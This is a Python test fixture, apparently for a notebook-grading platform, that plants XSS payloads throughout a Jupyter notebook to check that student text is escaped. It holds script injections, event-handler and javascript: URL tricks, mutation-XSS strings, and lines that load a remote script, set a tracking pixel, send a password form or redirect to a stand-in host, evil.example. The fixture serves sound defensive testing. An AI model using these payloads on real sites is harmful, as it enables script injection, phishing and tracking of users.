"""Markup that must not reach a browser as markup, for every place that shows a student's text."""

from __future__ import annotations

from typing import Any

from .lab import by_id, flags

MARKDOWN = r"""
<script>alert("md")</script> <ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)> <img src="https://evil.example/track.png"> <img src="//evil.example/t">
[link](javascript:alert(1)) [link](JaVa&#x09;Script:alert(1)) [data](data:text/html;base64,PHN2Zz4=)
<a href="javascript:alert(1)">a</a> <a href=" jav&#x0A;ascript:alert(1)" target=_blank>b</a>
<svg onload=alert(1)><script>alert(2)</script></svg> <math><mi xlink:href="data:x">m</mi></math>
<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data="x"></object> <embed src="x">
<style>body { display: none }</style> <link rel="stylesheet" href="//evil.example/x.css">
<meta http-equiv="refresh" content="0;url=//evil.example"> <base href="//evil.example/">
<form action="//evil.example"><input name="password"><button>Go</button></form>
<div style="position:fixed;top:0;background:url(//evil.example/b.png)" class="modal in">over</div>
<div id="notebook" onclick="alert(1)">clash</div>
</div></div></body></html><script>alert(3)</script>
$\href{javascript:alert(1)}{x}$ $$ </script><script>alert(4)</script> $$
<noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript>
<!--><img src=x onerror=alert(6)>--> <![CDATA[<img src=x onerror=alert(7)>]]>
![picture](javascript:alert(8)) ![gone](attachment:gone.png)

# <img src=x onerror=alert(9)> heading

```mermaid
graph TD; A["<img src=x onerror=alert(10)>"]
```

```python"><script>alert(11)</script>
x
```
"""

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQ"
    "AAAABJRU5ErkJggg=="
)

SHOW = f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
text = '''{MARKDOWN.replace(chr(92), chr(92) * 2)}'''
display(HTML(text), metadata={{"text/html": {{"isolated": True}}}})
display(Markdown(text), Latex(text), Javascript("alert(1)"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>'))
display({{"image/png": "{PNG}"}}, raw=True)
display({{"image/png": "{PNG}"}}, raw=True,
        metadata={{"image/png": {{"width": "1 onerror=alert(1)"}}, "alt": 'x" onerror="alert(1)'}})
display({{"image/png": '{PNG}" onerror="alert(1)'}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>"}},
         "text/vnd.mermaid": text, "text/plain": "a widget " + text}}, raw=True)
display(HTML("<div>" * 50_000))
display(HTML("<table><tr><th>a</th></tr><tr><td>honest table</td></tr></table>"))
print("\\x1b[31m" + text + "\\x1b]8;;javascript:alert(1)\\x07")
print("<i>" * 3000, "half a character: \\ud800")
"""

RAISE = 'raise type("<script>alert(12)</script>", (Exception,), {})(text)'
ANSWER = (
    "def double(n):\n    return '</pre><script>alert(13)</script>```\\n<img src=x onerror=f()>'"
)
RAISING_ANSWER = (
    "def triple(n):\n    raise ValueError('<img src=x onerror=alert(14)> [a](javascript:b)')"
)
STUDENT_NAME = "<img src=x onerror=alert(15)>"


def poison(document: dict[str, Any]) -> None:
    """Put markup everywhere in a notebook."""
    by_id(document, "lab_t1_answer")["source"] = ANSWER
    by_id(document, "lab_t2_answer")["source"] = RAISING_ANSWER
    by_id(document, "lab_t3")["source"] = MARKDOWN
    cell: dict[str, Any] = {"cell_type": "code", "outputs": [], "execution_count": None}
    document["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN, "id": "poison-1"},
        {**cell, "metadata": {"tags": ['"><script>']}, "source": SHOW, "id": 'x"><script>'},
        {**cell, "metadata": flags("<script>", grade=True), "source": RAISE, "id": "poison-3"},
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": MARKDOWN,
            "id": "raw",
        },
    ]
    document["metadata"]["title"] = "</title><script>alert(16)</script>"
    document["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": MARKDOWN}
    document["metadata"]["language_info"] = {"name": "python", "pygments_lexer": '"><script>'}
